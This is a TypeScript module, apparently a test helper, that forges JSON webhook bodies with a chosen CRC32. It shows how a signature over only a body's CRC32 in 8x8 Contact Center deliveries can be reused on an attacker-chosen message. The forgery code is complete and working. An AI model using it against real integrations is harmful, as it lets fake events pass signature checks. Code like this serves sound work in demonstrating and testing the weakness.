/**
 * Forging a body with a chosen CRC32, as an attacker holding one signed Contact Center
 * delivery would: 8x8 signs the CRC32 of the body, not the body (8x8.md §Contact Center), and
 * CRC32 is linear, so four chosen bytes anywhere in a message set its CRC to any value.
 */
import { crc32 } from 'node:zlib';

const TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
/** The table index whose entry has a given top byte (the top bytes are all distinct). */
const BY_TOP_BYTE = new Map(TABLE.map((entry, index) => [entry >>> 24, index]));

function forward(state: number, bytes: Buffer): number {
  let s = state;
  for (const b of bytes) s = (TABLE[(s ^ b) & 0xff] as number) ^ (s >>> 8);
  return s >>> 0;
}

function backward(state: number, bytes: Buffer): number {
  let s = state;
  for (let i = bytes.length - 1; i >= 0; i--) {
    const j = BY_TOP_BYTE.get(s >>> 24) as number;
    s = ((((s ^ (TABLE[j] as number)) << 8) | (j ^ (bytes[i] as number))) >>> 0);
  }
  return s >>> 0;
}

/** The four bytes that take the CRC state `from` to `to`. */
function patch(from: number, to: number): Buffer {
  const indices: number[] = [];
  let s = to;
  for (let i = 0; i < 4; i++) {
    const j = BY_TOP_BYTE.get(s >>> 24) as number;
    indices.unshift(j);
    s = ((s ^ (TABLE[j] as number)) << 8) >>> 0;
  }
  const out = Buffer.alloc(4);
  let state = from;
  indices.forEach((j, i) => {
    out[i] = (state ^ j) & 0xff;
    state = ((TABLE[j] as number) ^ (state >>> 8)) >>> 0;
  });
  return out;
}

/**
 * A JSON body that says `text` and has the CRC32 `target`: `{"eventType":"MESSAGE","data":{"text":"<text> <nonce><4 bytes>"}}`,
 * trying nonces until the four bytes are printable JSON-string characters.
 */
export function forgeJsonWithCrc32(text: string, target: number): Buffer {
  const suffix = Buffer.from('"}}');
  const beforeSuffix = backward((target ^ 0xffffffff) >>> 0, suffix);
  for (let nonce = 0; nonce < 100_000; nonce++) {
    const prefix = Buffer.from(`{"eventType":"MESSAGE","data":{"text":"${text} ${nonce}`);
    const bytes = patch(forward(0xffffffff, prefix), beforeSuffix);
    if (![...bytes].every((b) => b >= 0x20 && b < 0x7f && b !== 0x22 && b !== 0x5c)) continue;
    const body = Buffer.concat([prefix, bytes, suffix]);
    if (crc32(body) >>> 0 !== target >>> 0) throw new Error('CRC forgery arithmetic is wrong');
    return body;
  }
  throw new Error('no printable forgery found');
}
